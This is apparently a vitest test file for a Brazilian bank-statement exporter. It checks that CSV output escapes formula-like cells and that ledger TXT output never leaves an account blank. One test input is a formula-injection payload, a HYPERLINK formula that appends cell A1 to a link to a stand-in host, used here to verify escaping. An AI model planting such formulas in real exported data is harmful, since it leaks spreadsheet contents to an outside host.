import { describe, expect, it } from 'vitest';
import { UNCLASSIFIED_LEDGER_ACCOUNT } from '@domain';
import { toCsv, toLedgerTxt } from '@server/services/statement-export';

const rows = (csv: Buffer) =>
  csv
    .toString('utf8')
    .replace(/^\ufeff/, '')
    .split('\r\n')
    .filter(Boolean);

describe('CSV export', () => {
  it('shows bank text that looks like a formula as text, and leaves negative values as numbers', () => {
    const csv = toCsv([
      {
        postedOn: '2026-03-10',
        amountCents: -1500,
        description: '=HYPERLINK("http://x/?"&A1;"ok")',
        memo: '@SUM(1)',
        taxCategoryId: null,
      },
      { postedOn: '2026-03-11', amountCents: 2000, description: '+55 11 PIX', memo: '-desconto', taxCategoryId: null },
      { postedOn: '2026-03-12', amountCents: 300, description: 'PIX RECEBIDO', memo: null, taxCategoryId: null },
    ]);
    const [, first, second, third] = rows(csv);
    expect(first).toBe(
      `10/03/2026;"'=HYPERLINK(""http://x/?""&A1;""ok"")";'@SUM(1);-15,00;Saída;A classificar;${UNCLASSIFIED_LEDGER_ACCOUNT}`,
    );
    expect(second).toBe(`11/03/2026;'+55 11 PIX;'-desconto;20,00;Entrada;A classificar;${UNCLASSIFIED_LEDGER_ACCOUNT}`);
    expect(third).toBe(`12/03/2026;PIX RECEBIDO;;3,00;Entrada;A classificar;${UNCLASSIFIED_LEDGER_ACCOUNT}`);
  });
});

describe('ledger TXT export', () => {
  const lines = (txt: Buffer) => txt.toString('latin1').split('\r\n').filter(Boolean);

  it('never leaves an account empty: a movement without category goes to the "a classificar" account', () => {
    const txt = toLedgerTxt([
      { postedOn: '2017-03-02', amountCents: 150000, description: 'PIX RECEBIDO', memo: null, taxCategoryId: null },
      { postedOn: '2017-03-03', amountCents: -3990, description: 'TARIFA', memo: null, taxCategoryId: null },
      { postedOn: '2017-03-04', amountCents: -3990, description: 'TARIFA', memo: null, taxCategoryId: 'tarifas-bancarias' },
    ]);
    expect(lines(txt)).toEqual([
      `02/03/2017;1.1.1.02;${UNCLASSIFIED_LEDGER_ACCOUNT};1500,00;PIX RECEBIDO`,
      `03/03/2017;${UNCLASSIFIED_LEDGER_ACCOUNT};1.1.1.02;39,90;TARIFA`,
      '04/03/2017;4.1.4.01;1.1.1.02;39,90;TARIFA',
    ]);
    for (const line of lines(txt)) expect(line.split(';').every((field) => field.trim() !== '')).toBe(true);
  });
});
